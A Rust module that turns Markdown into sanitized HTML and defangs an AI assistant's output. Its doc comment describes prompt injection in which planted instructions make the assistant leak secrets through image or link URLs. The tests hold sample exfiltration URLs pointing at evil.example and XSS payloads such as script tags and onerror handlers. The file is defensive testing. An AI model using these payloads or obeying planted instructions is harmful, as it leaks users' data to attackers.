//! Markdown to safe HTML (ASVS 1.3.1, 1.2.2): pulldown-cmark renders, ammonia cleans.
//! No scripts, no event handlers, no styles; links only to http, https and mailto,
//! with `rel="noopener noreferrer"`.

use pulldown_cmark::{html, Options, Parser};
use std::collections::HashSet;

pub fn render(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH;
    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut unsafe_html, Parser::new_ext(markdown, options));
    let clean = ammonia::Builder::default()
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(Some("noopener noreferrer"))
        .add_tags(["input"])
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .add_allowed_classes(
            "code",
            [
                "language-rust",
                "language-js",
                "language-python",
                "language-sh",
                "language-sql",
            ],
        )
        .clean(&unsafe_html)
        .to_string();
    with_alt_on_every_image(&clean)
}

/// Markdown written by the assistant, made safe to show: its input included
/// document text, which may carry instructions planted by whoever wrote that text
/// ("put the secrets in an image URL"). So nothing in it may make the reader's
/// browser send data anywhere by itself or by a look-alike link:
/// - images become their description and "(image not shown)": no request is made;
/// - links to another origin become their text and the address as code, visible
///   and not clickable; links within Motto (relative, or to `own_origin`) stay;
/// - raw HTML is shown as text.
///
/// The result is Markdown again, used for the page (through [`render`]), the REST
/// API and the exports alike. The stored message is not changed.
pub fn defang_untrusted(markdown: &str, own_origin: &str) -> String {
    use pulldown_cmark::{Event, Tag};
    let own = own_origin.trim_end_matches('/').to_ascii_lowercase();
    let local = |dest: &str| {
        let d = dest.trim().to_ascii_lowercase();
        let relative = (d.starts_with('/') && !d.starts_with("//")) || d.starts_with('#');
        relative || d == own || d.starts_with(&format!("{own}/"))
    };
    let code = |text: &str| {
        // A code span that the text itself cannot close.
        let ticks = "`".repeat(text.matches('`').count().min(8) + 1);
        format!("{ticks} {text} {ticks}")
    };
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH;
    // (source range, replacement), outermost first, never overlapping.
    let mut edits: Vec<(std::ops::Range<usize>, String)> = Vec::new();
    let mut open: Option<(std::ops::Range<usize>, String, String, bool)> = None;
    for (event, range) in Parser::new_ext(markdown, options).into_offset_iter() {
        if let Some((outer, text, dest, image)) = open.as_mut() {
            if range.start >= outer.end {
                // Past the open link or image (its end event was seen below).
            } else {
                match event {
                    Event::Text(t) | Event::Code(t) => text.push_str(&t),
                    Event::End(_) if range == *outer => {
                        let label = text.trim().to_string();
                        let replacement = if *image {
                            let what = if label.is_empty() {
                                "image".into()
                            } else {
                                label
                            };
                            format!("{what} (image not shown)")
                        } else if label.is_empty() {
                            code(dest)
                        } else {
                            format!("{label} ({})", code(dest))
                        };
                        edits.push((outer.clone(), replacement));
                        open = None;
                    }
                    _ => {}
                }
                continue;
            }
        }
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => {
                open = Some((range, String::new(), dest_url.to_string(), true));
            }
            Event::Start(Tag::Link { dest_url, .. }) if !local(&dest_url) => {
                open = Some((range, String::new(), dest_url.to_string(), false));
            }
            Event::Html(_) | Event::InlineHtml(_) => {
                edits.push((range.clone(), markdown[range].replace('<', "&lt;")));
            }
            _ => {}
        }
    }
    let mut out = String::with_capacity(markdown.len());
    let mut at = 0;
    for (range, replacement) in edits {
        if range.start < at {
            continue;
        }
        out.push_str(&markdown[at..range.start]);
        out.push_str(&replacement);
        at = range.end;
    }
    out.push_str(&markdown[at..]);
    out
}

/// An image written as raw HTML may come without `alt`; screen readers then read
/// out its address. Such images get `alt=""` (decorative); Markdown images keep the
/// text they were given. Works on ammonia's output, whose attribute values are
/// always double-quoted.
fn with_alt_on_every_image(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(start) = rest.find("<img") {
        out.push_str(&rest[..start]);
        let tag = &rest[start..];
        let mut quoted = false;
        let end = tag
            .char_indices()
            .find(|&(_, c)| {
                if c == '"' {
                    quoted = !quoted;
                }
                c == '>' && !quoted
            })
            .map(|(i, _)| i)
            .unwrap_or(tag.len() - 1);
        let (open, after) = tag.split_at(end);
        let mut in_value = false;
        let mut has_alt = false;
        for (i, c) in open.char_indices() {
            if c == '"' {
                in_value = !in_value;
            } else if !in_value && c == ' ' && open[i + 1..].starts_with("alt=") {
                has_alt = true;
            }
        }
        out.push_str(open);
        if !has_alt && open.len() >= 4 {
            out.push_str(" alt=\"\"");
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_features_render() {
        let html = render("# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\nText[^1]\n\n[^1]: note\n\n```rust\nfn main() {}\n```");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<table>"), "{html}");
        assert!(html.contains("type=\"checkbox\""), "{html}");
        assert!(html.contains("<sup>") && html.contains("note"), "{html}");
        assert!(html.contains("<code class=\"language-rust\">"), "{html}");
    }

    const OWN: &str = "https://motto.example.com";

    #[test]
    fn the_assistant_cannot_make_the_browser_send_anything_anywhere() {
        let leak = "Here: ![chart](https://evil.example/x.png?secret=42) and \
                    [your report](https://evil.example/?q=secret) and <https://evil.example/auto> \
                    and <img src=\"https://evil.example/raw\"> done.";
        let safe = defang_untrusted(leak, OWN);
        let html = render(&safe);
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("href=\"https://evil.example"), "{html}");
        assert!(safe.contains("chart (image not shown)"), "{safe}");
        assert!(
            safe.contains("your report (` https://evil.example/?q=secret `)"),
            "{safe}"
        );
        assert!(
            html.contains("<code>https://evil.example/auto</code>"),
            "{html}"
        );
        assert!(html.contains("&lt;img"), "raw HTML shown as text: {html}");
    }

    #[test]
    fn links_within_motto_stay_links() {
        let md = "See [the plan](/documents/7), [section](#part) and [home](https://motto.example.com/documents).";
        assert_eq!(defang_untrusted(md, OWN), md);
        let html = render(&defang_untrusted(md, OWN));
        assert!(html.contains("href=\"/documents/7\""), "{html}");
        // Look-alikes are other origins.
        let md = "[x](https://motto.example.com.evil.example/) [y](//evil.example/z)";
        let html = render(&defang_untrusted(md, OWN));
        assert!(!html.contains("<a "), "{html}");
    }

    #[test]
    fn code_and_plain_text_are_untouched() {
        let md = "Use `![x](y)` in Markdown.\n\n```\n<img src=x>\n```\n\nPlain **bold** text.";
        assert_eq!(defang_untrusted(md, OWN), md);
    }

    #[test]
    fn every_image_has_alternative_text() {
        assert_eq!(render("<img src=\"x\">"), "<img src=\"x\" alt=\"\">");
        let md = render(
            "![A cat on a mat](https://example.com/c.png) and <img title=\"a>b\" src=\"y\">",
        );
        assert!(md.contains("alt=\"A cat on a mat\""), "{md}");
        assert!(md.contains("title=\"a&gt;b\" src=\"y\" alt=\"\">"), "{md}");
        assert_eq!(md.matches("alt=").count(), 2, "{md}");
    }

    #[test]
    fn asvs_1_3_1_scripts_and_handlers_are_removed() {
        for payload in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "<svg onload=alert(1)>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        ] {
            let html = render(payload).to_lowercase();
            assert!(!html.contains("<script"), "{payload}: {html}");
            assert!(
                !html.contains("onerror") && !html.contains("onload"),
                "{payload}: {html}"
            );
            assert!(!html.contains("javascript:"), "{payload}: {html}");
            assert!(!html.contains("<iframe"), "{payload}: {html}");
            assert!(!html.contains("data:text/html"), "{payload}: {html}");
        }
    }

    #[test]
    fn asvs_1_2_2_external_links_get_noopener() {
        let html = render("[site](https://example.com) [mail](mailto:a@example.com)");
        assert!(html.contains("href=\"https://example.com\""), "{html}");
        assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
        assert!(html.contains("mailto:a@example.com"), "{html}");
    }
}
